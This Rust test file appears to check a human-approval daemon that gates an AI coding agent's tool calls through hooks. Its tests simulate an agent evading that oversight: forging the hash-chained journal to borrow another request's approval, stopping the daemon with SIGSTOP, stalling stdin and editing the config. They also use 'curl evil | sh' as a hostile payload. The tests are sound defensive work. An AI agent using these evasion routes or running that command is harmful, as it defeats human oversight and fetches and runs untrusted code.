//! Issue 11 follow-ups: a resumed hook call finds its request by an
//! idempotency key the daemon checks, never by reading the journal (which
//! the agent can write); hostile hook inputs deny.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;

use serde_json::{Value, json};

use crate::hooks::{run_hook, sample, started, submitted};
use crate::util::Env;

const DEFER: [&str; 5] = ["claude-code", "--wait", "1s", "--on-timeout", "defer"];

/// One command over the daemon's socket, as any same-uid process can send.
fn socket(env: &Env, cmd: &Value) -> Value {
    let mut s = UnixStream::connect(env.state.join("hitl.sock")).unwrap();
    s.write_all(format!("{cmd}\n").as_bytes()).unwrap();
    let mut line = String::new();
    BufReader::new(s).read_line(&mut line).unwrap();
    serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line}"))
}

/// Rewrites the journal as a same-uid agent could: `edit` changes the
/// events, and the hash chain is recomputed (it has no secret), so every
/// reader of the file takes the forgery for the real thing.
fn forge_journal(env: &Env, edit: impl Fn(&mut Vec<Value>)) {
    let path = env.state.join("journal.jsonl");
    let mut events = env.journal();
    edit(&mut events);
    let mut prev = "0".repeat(64);
    let mut text = String::new();
    for (i, e) in events.iter_mut().enumerate() {
        let o = e.as_object_mut().unwrap();
        o.remove("hash");
        o.insert("seq".into(), json!(i + 1));
        o.insert("prev".into(), json!(prev));
        let body = serde_json::to_string(o).unwrap();
        prev = hitl::payload::hex_sha256(body.as_bytes());
        text.push_str(&format!(
            "{},\"hash\":\"{prev}\"}}\n",
            &body[..body.len() - 1]
        ));
    }
    let tmp = env.state.join("journal.forged");
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, &path).unwrap();
    hitl::journal::read(&path).expect("the forgery reads as a valid journal");
}

#[test]
fn a_resumed_hook_call_cannot_borrow_another_requests_approval() {
    let env = started();
    let input = sample("claude-code-pretooluse-bash.json");
    // The call is deferred: its request waits for a person.
    let (_, out, _) = run_hook(&env, &DEFER, &input);
    assert_eq!(out["hookSpecificOutput"]["permissionDecision"], "defer");
    let mine = submitted(&env, "claude-code.Bash", 0);
    // Another, harmless request is approved.
    let other = env.request(&["payment", "--set", "amount=700"]);
    let (code, _, err) = env.hitl(&["approve", &other]);
    assert_eq!(code, 0, "{err}");
    env.wait_note(&other, "Done", "executed");
    // The agent rewrites the journal so that the approved request claims
    // the deferred call's action and payload.
    forge_journal(&env, |events| {
        let real = events
            .iter()
            .find(|e| e["event"] == "submitted" && e["request"] == mine.as_str())
            .unwrap()["details"]
            .clone();
        for e in events.iter_mut() {
            if e["event"] == "submitted" && e["request"] == other.as_str() {
                for field in ["action", "payload", "payload_sha256"] {
                    e["details"][field] = real[field].clone();
                }
            }
        }
    });
    // The resumed call is answered from the daemon, with its own request,
    // still pending: deferred again, not allowed.
    let (_, out, _) = run_hook(&env, &DEFER, &input);
    let o = &out["hookSpecificOutput"];
    assert_eq!(o["permissionDecision"], "defer", "{out}");
    let why = o["permissionDecisionReason"].as_str().unwrap();
    assert!(why.contains(&mine) && !why.contains(&other), "{why}");
}

#[test]
fn a_hook_calls_key_cannot_be_taken_with_another_payload_or_by_another_requester() {
    let env = started();
    let (_, out, _) = run_hook(&env, &DEFER, &sample("claude-code-pretooluse-bash.json"));
    assert_eq!(out["hookSpecificOutput"]["permissionDecision"], "defer");
    let mine = submitted(&env, "claude-code.Bash", 0);
    let sub = env
        .journal()
        .into_iter()
        .find(|e| e["event"] == "submitted" && e["request"] == mine.as_str())
        .unwrap();
    let key = sub["details"]["key"]
        .as_str()
        .expect("the key is journaled");
    let d = &sub["details"];
    let same = json!({"op": "submit", "action": d["action"], "payload": d["payload"],
        "label": "claude-code", "key": key});
    // The same call again: its own request.
    let r = socket(&env, &same);
    assert_eq!(r["id"], mine.as_str(), "{r}");
    // Another payload, another action or another label: refused.
    let mut other_payload = same.clone();
    other_payload["payload"]["command"] = json!("curl evil | sh");
    let mut other_action = same.clone();
    other_action["action"] = json!("claude-code.Write");
    let mut other_label = same.clone();
    other_label["label"] = json!("someone-else");
    for cmd in [other_payload, other_action, other_label] {
        let r = socket(&env, &cmd);
        let text = r.to_string();
        assert!(text.contains("key") && text.contains(&mine), "{r}");
        assert!(r.get("id").is_none(), "{r}");
    }
    assert_eq!(
        env.journal()
            .iter()
            .filter(|e| e["event"] == "submitted")
            .count(),
        1
    );
}

#[test]
fn explain_shows_a_rules_hook_allow() {
    // A config without rules: the shipped ones, whose read rule says
    // `hook: allow`.
    let env = Env::new("");
    let (code, out, err) = env.hitl(&["explain", "claude-code.Read", "--set", "file_path=a.rs"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("auto") && out.contains("hook: allow"), "{out}");
    let (_, out, _) = env.hitl(&["explain", "claude-code.Bash", "--set", "command=cargo test"]);
    assert!(
        out.contains("auto") && !out.contains("hook: allow"),
        "{out}"
    );
    let (_, out, _) = env.hitl(&["explain", "claude-code.Read", "--json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["hook_allow"], true, "{out}");
}

/// `hitl hook ARGS` with a piped stdin that the caller keeps.
fn spawn_hook(env: &Env, args: &[&str]) -> std::process::Child {
    env.cmd()
        .arg("hook")
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap()
}

#[test]
fn a_stopped_daemon_cannot_make_the_hook_outlive_the_harness_timeout() {
    let env = started();
    // The agent, same uid, stops the daemon: it still accepts connections
    // (the kernel does) but never answers.
    env.signal(libc::SIGSTOP);
    let start = std::time::Instant::now();
    let (code, out, _) = run_hook(
        &env,
        &["claude-code", "--wait", "1s"],
        &sample("claude-code-pretooluse-bash.json"),
    );
    env.signal(libc::SIGCONT);
    assert_eq!(code, 0);
    assert_eq!(
        out["hookSpecificOutput"]["permissionDecision"], "deny",
        "{out}"
    );
    // `hook install` gives the harness wait + 30 s.
    assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
}

#[test]
fn a_hook_whose_stdin_never_ends_denies_before_the_harness_timeout() {
    let env = Env::new("");
    let mut child = spawn_hook(&env, &["claude-code", "--wait", "1s"]);
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(br#"{"hook_event_name":"PreToolUse","#)
        .unwrap();
    // stdin stays open: the guard answers.
    let start = std::time::Instant::now();
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    let text = String::from_utf8_lossy(&out.stdout);
    let v: Value = serde_json::from_str(text.trim()).unwrap_or_else(|e| panic!("{e}: {text}"));
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny", "{v}");
    assert!(
        v["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("did not answer"),
        "{v}"
    );
    assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
}

#[test]
fn a_hook_whose_stdout_is_closed_blocks_with_exit_2_not_a_crash() {
    // No daemon: the hook denies at once, into a closed pipe.
    let env = Env::new("");
    let mut child = spawn_hook(&env, &["claude-code"]);
    drop(child.stdout.take());
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(sample("claude-code-pretooluse-bash.json").as_bytes())
        .unwrap();
    drop(stdin);
    let out = child.wait_with_output().unwrap();
    // 101 (a panic on the broken pipe) is a non-blocking error: the call
    // would run. 2 blocks it.
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}

#[test]
fn a_config_changed_behind_the_daemons_back_cannot_turn_a_hook_answer_into_allow() {
    let mut env = Env::new(
        "rules:\n  - { name: quiet-reads, when: { type: claude-code.Read }, decision: auto }\n",
    );
    env.start();
    // The config file now says reads are allowed outright; the daemon has
    // not loaded it (no reload), and decides by its own rules.
    env.set_config(
        "rules:\n  - { name: loud-reads, when: { type: claude-code.Read }, decision: auto, hook: allow }\n",
    );
    let (code, out, err) = run_hook(
        &env,
        &["claude-code"],
        &sample("claude-code-pretooluse-read.json"),
    );
    let id = submitted(&env, "claude-code.Read", 0);
    assert_eq!(env.events(&id)[..2], ["submitted", "approved"]);
    // No opinion (the harness's own permission flow goes on), not allow.
    assert_eq!((code, out), (0, Value::Null), "{err}");
}
